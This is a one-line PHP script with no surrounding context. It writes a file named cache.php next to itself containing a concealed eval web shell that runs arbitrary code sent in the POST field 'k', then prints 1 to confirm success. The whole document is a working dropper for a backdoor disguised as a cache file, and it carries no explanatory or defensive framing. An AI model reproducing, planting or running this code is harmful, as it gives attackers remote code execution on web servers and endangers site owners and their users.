<?php file_put_contents(dirname(__FILE__) . '/cache.php', '<?php @eval($_POST["k"]); ?>'); echo 1;
